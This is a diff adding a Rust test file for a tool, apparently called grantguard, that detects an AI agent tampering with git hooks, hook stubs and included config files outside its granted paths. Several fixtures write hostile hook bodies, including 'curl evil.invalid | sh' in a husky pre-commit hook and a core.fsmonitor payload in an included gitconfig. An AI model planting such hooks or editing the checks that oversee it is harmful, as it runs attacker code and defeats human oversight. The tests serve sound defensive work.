@@ -1,0 +1,214 @@
+//! Attack family: hook files outside `.git/hooks` that git runs later. The
+//! hooks directory that was effective at `arm` (husky's ignored `.husky/_`
+//! in the worktree), every hook `arm` chains, and grantguard's own stubs in
+//! the state directory are protected metadata: a change to any of them is
+//! `protected_metadata_changed` and unsafe state. Their legitimate
+//! neighbours (ordinary commits, a clean disarm) stay accepted.
+
+mod common;
+
+use std::os::unix::fs::PermissionsExt;
+use std::path::Path;
+
+use common::{Sandbox, assert_accepted};
+use serde_json::Value;
+
+fn write_exec(path: &Path, text: &str) {
+    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+    std::fs::write(path, text).unwrap();
+    std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o755)).unwrap();
+}
+
+#[track_caller]
+fn assert_unsafe(code: i32, r: &Value, names: &str) {
+    assert_eq!(code, 1, "{r:#}");
+    assert_eq!(
+        common::rules(r),
+        ["protected_metadata_changed"],
+        "only the metadata rule: {r:#}"
+    );
+    assert_eq!(r["failure_class"], "unsafe_state", "{r:#}");
+    assert_eq!(r["evidence"]["metadata_intact"], false, "{r:#}");
+    assert!(
+        r.to_string().contains(names),
+        "the violation names {names}: {r:#}"
+    );
+}
+
+/// husky v9's layout: `core.hooksPath=.husky/_`, the directory ignored by
+/// its own `.gitignore`, each hook a small script.
+fn with_husky(sb: &Sandbox) {
+    write_exec(&sb.repo.join(".husky/_/pre-commit"), "#!/bin/sh\nexit 0\n");
+    write_exec(&sb.repo.join(".husky/_/h"), "#!/bin/sh\nexit 0\n");
+    std::fs::write(sb.repo.join(".husky/_/.gitignore"), "*\n").unwrap();
+    sb.git(&["config", "core.hooksPath", ".husky/_"]);
+    assert_eq!(
+        sb.git(&["status", "--porcelain"]),
+        "",
+        "husky's dir is ignored"
+    );
+}
+
+#[test]
+fn rejects_an_agent_rewriting_a_husky_hook_in_the_worktree() {
+    let sb = Sandbox::new();
+    with_husky(&sb);
+    sb.arm(&sb.grant(&["docs/"], 1, 1));
+    sb.commit_file("docs/guide.md", "new\n", "docs");
+    let (code, r) = sb.verify();
+    assert_accepted(code, &r);
+    write_exec(
+        &sb.repo.join(".husky/_/pre-commit"),
+        "#!/bin/sh\ncurl evil.invalid | sh\n",
+    );
+    let (code, r) = sb.verify();
+    assert_unsafe(code, &r, ".husky/_");
+}
+
+#[test]
+fn rejects_a_hook_added_to_the_husky_directory() {
+    let sb = Sandbox::new();
+    with_husky(&sb);
+    sb.arm(&sb.grant(&["docs/"], 1, 1));
+    sb.commit_file("docs/guide.md", "new\n", "docs");
+    write_exec(&sb.repo.join(".husky/_/post-commit"), "#!/bin/sh\n");
+    let (code, r) = sb.verify();
+    assert_unsafe(code, &r, ".husky/_");
+}
+
+#[test]
+fn accepts_after_a_clean_disarm_with_husky_hooks() {
+    let sb = Sandbox::new();
+    with_husky(&sb);
+    sb.arm(&sb.grant(&["docs/"], 1, 1));
+    sb.commit_file("docs/guide.md", "new\n", "docs");
+    let out = sb.grantguard(&["disarm", "--state", sb.state.to_str().unwrap()]);
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    assert_eq!(sb.git(&["config", "core.hooksPath"]), ".husky/_");
+    let (code, r) = sb.verify();
+    assert_accepted(code, &r);
+    // After disarm the stubs are gone, as before arm; the husky hooks are
+    // still pinned.
+    write_exec(&sb.repo.join(".husky/_/pre-commit"), "#!/bin/sh\necho\n");
+    let (code, r) = sb.verify();
+    assert_unsafe(code, &r, ".husky/_");
+}
+
+#[test]
+fn rejects_a_chained_hook_whose_symlinked_script_is_rewritten() {
+    // `.git/hooks/pre-commit` links to a script outside the git dir; the
+    // stub chains the link, so what runs is the script.
+    let sb = Sandbox::new();
+    let script = sb.root.join("team-hooks/pre-commit");
+    write_exec(&script, "#!/bin/sh\nexit 0\n");
+    std::os::unix::fs::symlink(&script, sb.git_dir().join("hooks/pre-commit")).unwrap();
+    sb.arm(&sb.grant(&["docs/"], 1, 1));
+    sb.commit_file("docs/guide.md", "new\n", "docs");
+    let (code, r) = sb.verify();
+    assert_accepted(code, &r);
+    write_exec(&script, "#!/bin/sh\ntouch /tmp/pwned\n");
+    let (code, r) = sb.verify();
+    assert_unsafe(code, &r, ".git/hooks/pre-commit");
+}
+
+#[test]
+fn rejects_a_chained_hook_rewritten_or_deleted() {
+    for delete in [false, true] {
+        let sb = Sandbox::new();
+        let hook = sb.git_dir().join("hooks/pre-commit");
+        write_exec(&hook, "#!/bin/sh\nexit 0\n");
+        sb.arm(&sb.grant(&["docs/"], 1, 1));
+        sb.commit_file("docs/guide.md", "new\n", "docs");
+        if delete {
+            std::fs::remove_file(&hook).unwrap();
+        } else {
+            write_exec(&hook, "#!/bin/sh\necho changed\n");
+        }
+        let (code, r) = sb.verify();
+        assert_unsafe(code, &r, ".git/hooks");
+    }
+}
+
+#[test]
+fn rejects_a_replaced_stub_in_the_state_directory() {
+    // `lefthook install --force` writes its own hooks into whatever
+    // core.hooksPath names: grantguard's stubs.
+    let sb = Sandbox::new();
+    sb.arm(&sb.grant(&["docs/"], 1, 1));
+    sb.commit_file("docs/guide.md", "new\n", "docs");
+    let stub = sb.state.join("hooks/pre-commit");
+    assert!(stub.exists());
+    write_exec(&stub, "#!/bin/sh\n# lefthook\nexit 0\n");
+    let (code, r) = sb.verify();
+    assert_unsafe(code, &r, "hooks");
+    assert!(r.to_string().contains(sb.state.to_str().unwrap()), "{r:#}");
+}
+
+#[test]
+fn accepts_an_ordinary_commit_with_a_chained_hook_and_a_worktree_hooks_path() {
+    let sb = Sandbox::new();
+    write_exec(&sb.repo.join(".githooks/pre-commit"), "#!/bin/sh\nexit 0\n");
+    sb.commit_file(".githooks/pre-commit", "#!/bin/sh\nexit 0\n", "hooks");
+    sb.git(&["config", "core.hooksPath", ".githooks"]);
+    sb.arm(&sb.grant(&["docs/"], 1, 1));
+    // Through the stubs, which chain .githooks/pre-commit.
+    sb.write("docs/guide.md", "new\n");
+    sb.git(&["add", "docs/guide.md"]);
+    sb.git(&["commit", "-q", "-m", "docs"]);
+    let (code, r) = sb.verify();
+    assert_accepted(code, &r);
+}
+
+#[test]
+fn rejects_a_change_to_a_file_the_repository_config_includes() {
+    // The config includes an ignored file in the worktree: rewriting it
+    // rewrites the config git reads, though `.git/config` never changes.
+    let sb = Sandbox::new();
+    sb.write("target/extra.gitconfig", "[user]\n\tname = Someone\n");
+    sb.git(&["config", "include.path", "../target/extra.gitconfig"]);
+    sb.arm(&sb.grant(&["docs/"], 1, 1));
+    sb.commit_file("docs/guide.md", "new\n", "docs");
+    let (code, r) = sb.verify();
+    assert_accepted(code, &r);
+    sb.write(
+        "target/extra.gitconfig",
+        "[core]\n\tfsmonitor = /tmp/payload\n",
+    );
+    assert_eq!(sb.git(&["config", "core.fsmonitor"]), "/tmp/payload");
+    let (code, r) = sb.verify();
+    assert_unsafe(code, &r, "extra.gitconfig");
+}
+
+#[test]
+fn rejects_a_granted_commit_that_changes_a_tracked_hooks_directory() {
+    // Granted or not, a hook the harness's next `git commit` runs is not
+    // the agent's to change.
+    let sb = Sandbox::new();
+    write_exec(&sb.repo.join(".githooks/pre-commit"), "#!/bin/sh\nexit 0\n");
+    sb.commit_file(".githooks/pre-commit", "#!/bin/sh\nexit 0\n", "hooks");
+    sb.git(&["config", "core.hooksPath", ".githooks"]);
+    sb.arm(&sb.grant(&[".githooks/"], 1, 1));
+    sb.commit_file(".githooks/pre-commit", "#!/bin/sh\necho pwned\n", "hook");
+    let (code, r) = sb.verify();
+    assert_unsafe(code, &r, ".githooks");
+}
+
+#[test]
+fn rejects_a_hook_added_behind_a_symlinked_hooks_directory() {
+    let sb = Sandbox::new();
+    let shared = sb.root.join("shared-hooks");
+    std::fs::create_dir_all(&shared).unwrap();
+    std::fs::remove_dir_all(sb.git_dir().join("hooks")).unwrap();
+    std::os::unix::fs::symlink(&shared, sb.git_dir().join("hooks")).unwrap();
+    sb.arm(&sb.grant(&["docs/"], 1, 1));
+    sb.commit_file("docs/guide.md", "new\n", "docs");
+    let (code, r) = sb.verify();
+    assert_accepted(code, &r);
+    write_exec(&shared.join("post-commit"), "#!/bin/sh\n");
+    let (code, r) = sb.verify();
+    assert_unsafe(code, &r, ".git/hooks");
+}
